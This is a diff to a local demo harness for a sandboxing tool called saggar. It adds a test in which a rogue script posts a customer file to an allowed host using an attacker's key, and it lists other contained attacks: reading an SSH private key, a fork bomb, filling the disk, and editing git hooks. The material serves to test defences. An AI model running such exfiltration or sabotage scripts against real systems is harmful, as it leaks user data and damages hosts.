@@ -1,7 +1,8 @@
 """What `scripts/demo` runs: an honest task and a rogue one, and what the audit log says of them.
 
-Everything is real and local: a TLS service on loopback that the policy allows under the name `api.allowed.test`, a collector on
-loopback that it does not, a key in a home directory, a git repository as the workspace. Each attack first succeeds outside.
+Everything is real and local: a TLS service on loopback that the policy allows under the name `api.allowed.test`, one that it allows
+as `store.allowed.test` with a key of the user's that the broker adds, a collector on loopback that it does not allow, a private key
+in a home directory, a git repository as the workspace. What an attack reaches for is first reached outside.
 """
 
 from __future__ import annotations
@@ -53,6 +54,22 @@ try:
         print("GOT" if b"collected" in answer else "refused: " + answer.split(b"\\r\\n")[0].decode(), "")
 except OSError as error:
     print("refused:", error.strerror or error, f"in {(time.monotonic() - started) * 1000:.0f} ms")
+"""
+
+CARRY = """
+import http.client, os, socket, ssl, sys
+address, port, ca = sys.argv[1], int(sys.argv[2]), sys.argv[3:]
+def store(key, body):
+    context = ssl.create_default_context(cafile=ca[0] if ca else None)
+    connection = http.client.HTTPSConnection("store.allowed.test", port, context=context, timeout=10)
+    connection._create_connection = lambda *_: socket.create_connection((address, port), 10)
+    connection.request("POST", "/files", body, {"Authorization": "Bearer " + key})
+    answer = connection.getresponse()
+    return answer.status, answer.read().decode()
+if "STORE_KEY" in os.environ:
+    print("with the task's own key:", store(os.environ["STORE_KEY"], "a report")[0])
+status, text = store("sk-of-the-attacker-0123456789", open("customers.txt").read())
+print("GOT" if status == 200 else f"refused: {status}", text.strip())
 """
 
 FLUSH = """
@@ -116,19 +133,24 @@ class Demo:
         for path in (self.workspace, f"{self.home}/.ssh"):
             os.makedirs(path)
         write(self.key, "demo private key\n")
-        pki = TestPki(place, ["api.allowed.test"])
+        pki = TestPki(place, ["api.allowed.test", "store.allowed.test"])
         shutil.copy(pki.ca_file, f"{self.workspace}/ca.pem")
         self.asked: list[str] = []
+        self.stored: list[str] = []
         self.stolen: list[str] = []
         context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
         context.load_cert_chain(pki.chain_file)
         self.service = serve(self.asked, b"hello from the allowed service", context)
+        self.store = serve(self.stored, b"stored", context)
         self.collector = serve(self.stolen, b"collected", None)
         write(
             self.policy,
             "[limits]\ndisk = '64MiB'\ntasks = 64\nmemory = '512MiB'\ntimeout = '60s'\n\n"
-            f"[[egress.allow]]\nhost = 'api.allowed.test'\nconnect_to = '127.0.0.1:{self.service}'\n",
+            f"[[egress.allow]]\nhost = 'api.allowed.test'\nconnect_to = '127.0.0.1:{self.service}'\n\n"
+            f"[[egress.allow]]\nhost = 'store.allowed.test'\nconnect_to = '127.0.0.1:{self.store}'\n"
+            f"http = {{ ca = '{pki.ca_file}', credential = {{ source = 'env:DEMO_STORE_KEY', env = 'STORE_KEY' }} }}\n",
         )
+        write(f"{self.workspace}/customers.txt", "Ann, 12 Example Street\n")
         for name, text in SCRIPTS.items():
             write(f"{self.workspace}/{name}", text)
         git = ["git", "-C", self.workspace, "-c", "user.name=demo", "-c", "user.email=demo@demo.test"]
@@ -142,6 +164,7 @@ class Demo:
             "LANG": "C.UTF-8",
             "SAGGAR_STATE_DIR": f"{self.home}/state",
             "DEMO_TOKEN": "outside only",
+            "DEMO_STORE_KEY": STORE_KEY,
         }
 
     def saggar(self, *args: str) -> subprocess.CompletedProcess[str]:
@@ -168,6 +191,10 @@ class Demo:
         )
         return done.stdout.strip()
 
+    def lost(self) -> int:
+        """How often something reached the attacker: his collector, or his account at the store."""
+        return len(self.stolen) + sum(ATTACKERS_KEY in key for key in self.stored)
+
     def log(self, run_id: str) -> list[dict]:
         verified = self.saggar("log", "verify", run_id)
         if verified.returncode:
@@ -175,7 +202,10 @@ class Demo:
         return [json.loads(line) for line in self.saggar("log", run_id, "--json").stdout.splitlines()]
 
 
-SCRIPTS = {"honest.py": HONEST, "read_key.py": READ_KEY, "reach.py": REACH, "flush.py": FLUSH, "fill.py": FILL, "fork.py": FORK,
+STORE_KEY = "sk-of-the-user-0123456789abcdef"
+ATTACKERS_KEY = "sk-of-the-attacker-0123456789"
+CARRYING = "carry data out by an allowed host, own key"
+SCRIPTS = {"honest.py": HONEST, "read_key.py": READ_KEY, "reach.py": REACH, "carry.py": CARRY, "flush.py": FLUSH, "fill.py": FILL, "fork.py": FORK,
            "hook.py": HOOK}  # fmt: skip
 
 
@@ -185,7 +215,7 @@ def write(path: str, text: str) -> None:
 
 
 def serve(seen: list[str], answer: bytes, context: ssl.SSLContext | None) -> int:
-    """An HTTP service on loopback that notes what it was asked for; its port."""
+    """An HTTP service on loopback that notes the path of a GET and the key of a POST; its port."""
 
     class Handler(http.server.BaseHTTPRequestHandler):
         def do_GET(self) -> None:
@@ -194,6 +224,11 @@ def serve(seen: list[str], answer: bytes, context: ssl.SSLContext | None) -> int
             self.send_header("Content-Length", str(len(answer)))
             self.end_headers()
             self.wfile.write(answer)
+
+        def do_POST(self) -> None:
+            self.rfile.read(int(self.headers["Content-Length"]))
+            self.path = self.headers["Authorization"]
+            self.do_GET()
 
         def log_message(self, *_: object) -> None:
             pass
@@ -213,7 +248,7 @@ def evidence(records: list[dict], result: dict, held_by: str) -> tuple[str, str]
     for record in records:
         if record["effect"] == "deny" or record["kind"].startswith("limit."):
             detail = record["detail"]
-            about = detail.get("path") or detail.get("to") or detail.get("host") or detail.get("limit") or ""
+            about = detail.get("to") or detail.get("host") or detail.get("path") or detail.get("limit") or ""
             return record["layer"], f"#{record['seq']} {record['kind']}: {record['reason']} {about}".rstrip()
     start, end = records[0], records[-1]
     if end["reason"] not in {"exit", "signal"}:
@@ -251,22 +286,26 @@ def play(demo: Demo) -> int:
     applied = demo.saggar("apply", result["run_id"])
     print(f"  saggar apply: on the host: {on_host(demo, 'report.txt')}\n")
     good = result["cause"] == "exit" and demo.asked == ["/"] and not applied.returncode
+    read_key, reach = ["read_key.py", demo.key], ["reach.py", "127.0.0.1", str(demo.collector)]
+    # name, what runs inside, what holds it where nobody refuses, what must succeed outside
     attacks = [
-        ("read a private key", ["read_key.py", demo.key], "mounts", True),
-        ("reach a service on loopback", ["reach.py", "127.0.0.1", str(demo.collector)], "network", True),
-        ("reach an address", ["reach.py", "192.0.2.7", "443"], "network", False),
-        ("reach an unlisted name", ["reach.py", "collector.test", "80"], "network", False),
-        ("flush the routes", ["flush.py"], "network", False),
-        ("fill the disk", ["fill.py"], "disk", False),
-        ("fork-bomb", ["fork.py"], "tasks", False),
-        ("edit .git/hooks", ["hook.py"], "mounts", False),
-    ]
+        ("read a private key", read_key, "mounts", read_key),
+        ("reach a service on loopback", reach, "network", reach),
+        ("reach an address", ["reach.py", "192.0.2.7", "443"], "network", []),
+        ("reach an unlisted name", ["reach.py", "collector.test", "80"], "network", []),
+        (CARRYING, ["carry.py", "store.allowed.test", "443"], "network",
+         ["carry.py", "127.0.0.1", str(demo.store), "ca.pem"]),
+        ("flush the routes", ["flush.py"], "network", []),
+        ("fill the disk", ["fill.py"], "disk", []),
+        ("fork-bomb", ["fork.py"], "tasks", []),
+        ("edit .git/hooks", ["hook.py"], "mounts", []),
+    ]  # fmt: skip
     rows = []
-    for name, command, held_by, try_outside in attacks:
-        control = demo.outside(python, *command) if try_outside else ""
-        if try_outside and not control.startswith("GOT"):
+    for name, command, held_by, outside in attacks:
+        control = demo.outside(python, *outside) if outside else ""
+        if outside and not control.startswith("GOT"):
             raise SystemExit(f"demo: `{name}` does not even work outside: {control}")
-        stolen = len(demo.stolen)
+        lost = demo.lost()
         started = time.monotonic()
         output, result = demo.run(python, *command)
         took = time.monotonic() - started
@@ -274,9 +313,12 @@ def play(demo: Demo) -> int:
             output = (demo.saggar("apply", result["run_id"]).stderr.strip().splitlines() or ["applied"])[-1]
             held = not os.path.exists(f"{demo.workspace}/.git/hooks/pre-commit")
         else:
-            held = "GOT" not in output and len(demo.stolen) == stolen
+            held = "GOT" not in output and demo.lost() == lost
         held = held and result["cause"] != "infrastructure"
         layer, says = evidence(demo.log(result["run_id"]), result, held_by)
+        if name == CARRYING:
+            # the same request with the task's own key went through, so that it is the key that was refused
+            held = held and layer == "L2" and "foreign_credential" in says and f"Bearer {STORE_KEY}" in demo.stored
         rows.append((name, layer, output.splitlines()[-1] if output else result["cause"], says, took, held))
     rows += demo_agent.attacks(f"{demo.home}/agent-state")
     print_table(rows)
